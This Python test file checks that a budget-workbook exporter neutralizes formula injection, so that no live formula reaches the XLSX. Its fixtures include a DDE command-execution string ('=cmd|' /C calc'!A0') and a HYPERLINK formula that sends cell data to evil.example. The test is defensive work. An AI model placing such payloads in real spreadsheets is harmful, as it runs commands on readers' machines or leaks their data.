"""Hostile text in the workbooks we write and hostile workbooks we read (issue 13: items 1, 5, 6, 13)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from yujuesuan import pipeline
from yujuesuan.errors import Findings
from yujuesuan.profiles import load_profile
from yujuesuan.xlsx import export_workbook, import_workbook
from yujuesuan.xlsx.textcells import DANGEROUS, neutralize, restore

FORMULAS = {
    "咨询电话": "=cmd|' /C calc'!A0",
    "收支总计变动原因": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "收入变动原因": "+1+1",
    "支出变动原因": "-2-3",
    "财政拨款收支变动原因": "@SUM(1,2)",
    "一般公共预算财政拨款收入变动原因": "'=已加引号",
    "一般公共预算财政拨款支出变动原因": "＝全角等号",
}


def _hostile_sample(sample_text: str) -> str:
    text = sample_text.replace('  咨询电话: "68865800"', '  咨询电话: "=cmd|\' /C calc\'!A0"')
    for key, value in FORMULAS.items():
        if key == "咨询电话":
            continue
        old = f"  {key}: 本年有新进人员及人员经费的正常增加\n"
        assert old in text, key
        quoted = value.replace("\\", "\\\\").replace('"', '\\"')
        text = text.replace(old, f'  {key}: "{quoted}"\n', 1)
    text += '\n自定义科目:\n  "30299": "=cmd|\' /C calc\'!A0"\n'
    return text


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'x", "''=", "'", "a=b", "", "＝1"])
def test_neutralize_round_trips(text):
    stored = neutralize(text)
    assert not stored.startswith(DANGEROUS)
    assert restore(stored) == text


def test_workbook_has_no_formula_and_text_round_trips(tmp_path: Path, sample_text: str):
    path = tmp_path / "unit.yaml"
    path.write_text(_hostile_sample(sample_text), encoding="utf-8")
    first = pipeline.check(path)
    assert first.ok, [f.format() for f in first.findings]
    data = export_workbook(first.figures, load_profile("wuhan"))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    strings = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    strings += 1
                    assert not cell.value.startswith(DANGEROUS), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
    assert strings > 100
    # No formula element in any sheet's XML either (what Excel actually reads).
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    # The 公开 tables show the custom name neutralized.
    shown = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'=cmd|' /C calc'!A0" in shown
    book = tmp_path / "unit.xlsx"
    book.write_bytes(data)
    found = Findings()
    imported = import_workbook(book, found)
    again_path = tmp_path / "again.yaml"
    again_path.write_text(imported, encoding="utf-8")
    again = pipeline.check(again_path)
    assert again.ok, [f.format() for f in again.findings]
    assert again.model.phone == first.model.phone == "=cmd|' /C calc'!A0"
    assert again.model.custom_names["30299"] == "=cmd|' /C calc'!A0"
    for key, value in FORMULAS.items():
        if key != "咨询电话":
            assert again.model.reasons[key] == first.model.reasons[key] == value, key
